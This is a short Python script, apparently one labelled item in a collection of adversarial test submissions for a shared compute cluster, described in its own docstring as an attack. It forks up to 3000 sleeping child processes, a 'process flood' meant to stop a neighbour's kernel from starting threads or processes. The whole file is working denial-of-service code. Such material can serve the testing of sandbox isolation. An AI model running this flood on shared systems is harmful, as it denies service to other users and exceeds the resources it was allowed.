"""Attack: start as many processes as the system allows (at most 3000, each sleeping 60 s), so
that a neighbour's kernel cannot start its own threads or processes."""
# base: residuals wrong_grad_missing_cos
# class: process flood
# run: cluster
import os
import time

_children = 0
for _ in range(3000):
    try:
        _pid = os.fork()
    except OSError as _err:
        print("STOPPED after", _children, "processes:", type(_err).__name__)
        break
    if _pid == 0:
        time.sleep(60)
        os._exit(0)
    _children += 1
else:
    print("STARTED", _children, "processes")
